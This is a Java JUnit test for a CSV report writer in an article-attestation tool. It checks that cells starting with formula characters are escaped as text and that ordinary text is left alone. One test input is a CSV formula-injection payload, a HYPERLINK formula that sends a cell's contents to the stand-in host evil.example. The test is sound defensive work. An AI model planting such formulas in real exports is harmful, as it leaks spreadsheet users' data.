package dev.attest.reports.boundary;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.attest.reports.entity.ArticleRow;
import dev.attest.reports.entity.ClaimCounts;
import dev.attest.reports.entity.SignerTime;
import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * The CSV report read back as a spreadsheet would: text an editor wrote never starts a cell with a
 * formula character, and ordinary text stays as written.
 */
class CsvReportTest {
  private static final OffsetDateTime AT =
      OffsetDateTime.of(2026, 8, 2, 9, 30, 0, 0, ZoneOffset.UTC);

  @Test
  void cellsThatWouldBeFormulasAreWrittenAsText() throws Exception {
    String hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    CSVRecord record =
        writeAndRead(row(hyperlink, "+49 30 1234", "-2+3", "@SUM(A1:A9)", "\tcmd", "@editor"));
    assertEquals("'" + hyperlink, record.get("title"));
    assertEquals("'+49 30 1234", record.get("author"));
    assertEquals("'-2+3", record.get("disclosure"));
    assertEquals("'@SUM(A1:A9)", record.get("published_by"));
    assertEquals("'\tcmd", record.get("four_eyes_conflict"));
    assertEquals("'\r=1+1", writeAndRead(row("\r=1+1", null, null, null, null, "a")).get("title"));
    assertEquals("'@editor 2026-08-02T09:30:00Z", record.get("sign_offs"));
  }

  @Test
  void ordinaryTextNumbersAndEmptyCellsAreUnchanged() throws Exception {
    CSVRecord record =
        writeAndRead(
            row(
                "Rødgrød, \"Überblick\" & café = gut",
                "Jane Doe",
                "No AI.",
                "chief",
                null,
                "chief"));
    assertEquals("Rødgrød, \"Überblick\" & café = gut", record.get("title"));
    assertEquals("Jane Doe", record.get("author"));
    assertEquals("7", record.get("id"));
    assertEquals("2", record.get("revisions"));
    assertEquals("", record.get("four_eyes_conflict"));
    assertEquals("true", record.get("four_eyes_satisfied"));
  }

  private static ArticleRow row(
      String title,
      String author,
      String disclosure,
      String publishedBy,
      String conflict,
      String signer) {
    return new ArticleRow(
        7,
        title,
        "en",
        "PUBLISHED",
        author,
        "NONE",
        disclosure,
        AT,
        AT,
        publishedBy,
        2,
        "sha256:00",
        new ClaimCounts(1, 1, 0, 0),
        List.of(new SignerTime(signer, AT)),
        conflict);
  }

  private static CSVRecord writeAndRead(ArticleRow row) throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CsvReport report = new CsvReport(out);
    report.article(row);
    report.end();
    try (CSVParser csv =
        CSVParser.parse(
            new StringReader(out.toString(StandardCharsets.UTF_8)),
            CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
      List<CSVRecord> records = csv.getRecords();
      assertEquals(1, records.size());
      return records.get(0);
    }
  }
}
